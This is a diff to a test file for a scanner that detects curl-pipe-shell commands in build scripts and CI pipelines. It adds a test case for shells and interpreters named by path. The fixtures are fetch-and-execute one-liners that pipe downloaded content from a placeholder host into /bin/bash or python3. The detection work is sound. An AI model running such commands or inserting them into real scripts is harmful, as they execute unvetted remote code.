@@ -18,6 +18,12 @@ describe('curl-pipe-shell in scripts and task files', () => {
     expect(found('scripts/bootstrap.sh', [], ['bash <(curl -fsSL https://get.example.dev/install)'])).toEqual(['medium scripts/bootstrap.sh:2']);
   });
 
+  it('reads a shell or interpreter named by its path (`| /bin/bash`, `| /usr/bin/python3`), not a pipe into another program', () => {
+    expect(found('scripts/bootstrap.sh', [], ['wget -O - https://get.example.dev/a31546bf | /bin/bash &'])).toEqual(['medium scripts/bootstrap.sh:2']);
+    expect(found('scripts/bootstrap.sh', [], ['curl -s https://get.example.dev/x.py | /usr/bin/python3 -'])).toEqual(['medium scripts/bootstrap.sh:2']);
+    expect(found('scripts/bootstrap.sh', [], ['curl -s https://get.example.dev/x.tgz | /usr/bin/tar -xz'])).toEqual([]);
+  });
+
   it('reads other CI systems\' pipelines (high, as a workflow), Rakefiles and //go:generate directives', () => {
     for (const path of ['.gitlab-ci.yml', 'Jenkinsfile', '.circleci/config.yml', 'azure-pipelines.yml', '.travis.yml', 'bitbucket-pipelines.yml', '.buildkite/pipeline.yml']) {
       expect(found(path, [], ['    - curl -fsSL https://get.example.dev/install.sh | bash']), path).toEqual([`high ${path}:2`]);
